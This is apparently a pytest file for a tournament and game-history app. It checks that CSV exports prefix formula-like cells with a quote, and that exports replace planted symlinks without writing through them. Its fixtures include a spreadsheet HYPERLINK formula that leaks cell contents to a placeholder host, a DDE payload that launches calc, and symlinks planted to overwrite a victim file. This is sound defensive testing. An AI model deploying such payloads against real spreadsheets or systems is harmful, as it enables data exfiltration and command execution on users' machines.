"""Exports that cannot be turned into weapons (issue 42, item 6).

A game's title comes from an imported file's comment line, and names from the players: a
cell of the CSV export that starts with ``=``, ``+``, ``-`` or ``@`` ran as a formula in a
spreadsheet. Now such text starts with ``'`` (OWASP's rule). `tournament export` wrote through
a link planted in its folder, over the file it pointed at, and wrote in place; every export
now appears whole under its name, replacing a link there, never writing through one.
"""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest
from tournament_desks import desk_with_round, seated

from companion.cli import main
from companion.history import History, export, importing

ROOT = Path(__file__).resolve().parents[3]
HOSTILE_TITLE = '=HYPERLINK("http://example.invalid/?"&A1,"Click for the scores")'


def _journal_with_hostile_title(tmp_path: Path) -> Path:
    journal = tmp_path / "journal.sqlite3"
    text = (ROOT / "examples" / "dice-forge.game").read_text(encoding="utf-8")
    with History(journal) as history:
        importing.import_game_text(history, f"# {HOSTILE_TITLE}\n# +cmd|' /C calc'!A0\n" + text,
                            "hostile.game")
    return journal


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    journal = _journal_with_hostile_title(tmp_path)
    out = tmp_path / "games.csv"
    assert main(["history", "export", "csv", str(out), "--journal", str(journal)]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    [title] = {r["title"] for r in rows}
    assert title.startswith(f"'{HOSTILE_TITLE}; +cmd|' /C calc'!A0; Dice Forge")
    assert [r["player"] for r in rows] == ["Ana", "Ben"]
    for row in rows:  # no cell of any row starts as a formula; numbers stay numbers
        assert not any(v.startswith(export.FORMULA_STARTS) for v in row.values()), row
        assert row["seat"] in ("1", "2") and float(row["score"]) >= 0
    # every text cell passes the same rule (names from older journals, teams, roles)
    cells = ["=1+2", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "Ana", "", "1-2"]
    assert [export.csv_cell(c) for c in cells] == [
        "'=1+2", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", "'\n=1", "Ana", "", "1-2"]
    assert [export.csv_cell(v) for v in (-3, 2.5, None)] == [-3, 2.5, None]
    # the same rule on standard output
    assert main(["history", "export", "csv", "-", "--journal", str(journal)]) == 0
    assert f"'{HOSTILE_TITLE}" in capsys.readouterr().out.replace('""', '"')


def test_a_history_export_replaces_a_link_at_its_name_and_appears_whole(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    journal = _journal_with_hostile_title(tmp_path)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    for kind, name in (("csv", "games.csv"), ("bgstats", "plays.html"), ("zip", "g.zip")):
        out = tmp_path / "out" / name
        out.parent.mkdir(exist_ok=True)
        out.symlink_to(victim)
        assert main(["history", "export", kind, str(out), "--journal", str(journal)]) == 0
        assert victim.read_text() == "keep me\n"
        assert out.is_file() and not out.is_symlink() and out.stat().st_size > 0
    assert not [p for p in (tmp_path / "out").iterdir() if p.name.startswith(".")]
    capsys.readouterr()


def test_tournament_export_never_writes_through_a_planted_link(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("COMPANION_DATA_DIR", str(tmp_path))
    desk = desk_with_round(tmp_path)
    desk.report(1, 1, seated(desk, 1), "table-1", "r-1", "a game file")
    desk.store.close()
    out = tmp_path / "export"
    out.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    (out / "standings.txt").symlink_to(victim)
    (out / "events.json").write_text("[]\n")
    os.link(out / "events.json", tmp_path / "events-before.json")  # a second name for it
    assert main(["tournament", "export", "--output", str(out)]) == 0
    assert victim.read_text() == "keep me\n"
    standings = out / "standings.txt"
    assert standings.is_file() and not standings.is_symlink()
    assert "Hostile Cup" in standings.read_text()
    # written whole under its name, not in place: the old file's other name keeps the old
    assert (tmp_path / "events-before.json").read_text() == "[]\n"
    assert (out / "events.json").read_text().startswith("[\n")
    assert [p.name for p in (out / "games").iterdir()] == [
        "round-01-table-01-table-1-r-1.game"]
    # a link planted where the game files go is refused, and nothing goes through it
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    again = tmp_path / "again"
    again.mkdir()
    (again / "games").symlink_to(elsewhere)
    assert main(["tournament", "export", "--output", str(again)]) == 1
    err = capsys.readouterr().err
    assert "is a link or a file, not a folder" in err and str(again / "games") in err
    assert list(elsewhere.iterdir()) == [] and not (again / "standings.txt").exists()
